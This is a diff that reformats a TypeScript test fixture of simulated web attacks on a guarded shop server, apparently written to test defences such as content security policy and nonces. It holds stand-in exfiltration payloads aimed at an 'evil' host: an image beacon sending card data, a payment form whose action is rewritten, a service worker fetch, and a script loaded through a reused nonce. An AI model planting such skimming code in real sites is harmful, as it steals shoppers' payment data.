@@ -10,7 +10,8 @@ export interface Attack {
 }
 
 /** Code that notes that it ran, and sends something away. */
-const steal = ({ evil }: GuardedServer) => `globalThis.ran = true; new Image().src = '${evil}/?card=4242'`
+const steal = ({ evil }: GuardedServer) =>
+  `globalThis.ran = true; new Image().src = '${evil}/?card=4242'`
 
 /** The nonce that every answer has in the attack with a nonce that is used again. */
 const usedNonce = 'q83vEjRWeJq83vEjRWeJqQ=='
@@ -52,12 +53,17 @@ export const attacks = {
   },
   "a form's action rewritten": {
     plant: (shop) => {
-      shop.planted.html = (html) => html.replace('action="/pay"', `action="${shop.evil}/pay?card=4242"`)
+      shop.planted.html = (html) =>
+        html.replace('action="/pay"', `action="${shop.evil}/pay?card=4242"`)
     },
     act: () => "document.querySelector('#pay button').click()",
   },
   'a service worker': {
-    plant: (shop) => void shop.planted.files.set('/assets/x.js', `fetch('${shop.evil}/?worker', { mode: 'no-cors' })`),
+    plant: (shop) =>
+      void shop.planted.files.set(
+        '/assets/x.js',
+        `fetch('${shop.evil}/?worker', { mode: 'no-cors' })`,
+      ),
     act: () => "navigator.serviceWorker.register('/assets/x.js').catch(() => {})",
   },
   '`import()`': {
@@ -94,7 +100,8 @@ export const attacks = {
     options: { isNonced: true, integrity: 'off' },
     plant: (shop) => {
       shop.planted.nonce = () => usedNonce
-      shop.planted.html = (html) => `${html}<script nonce="${usedNonce}" src="${shop.evil}/x.js"></script>`
+      shop.planted.html = (html) =>
+        `${html}<script nonce="${usedNonce}" src="${shop.evil}/x.js"></script>`
     },
   },
 } satisfies Readonly<Record<string, Attack>>
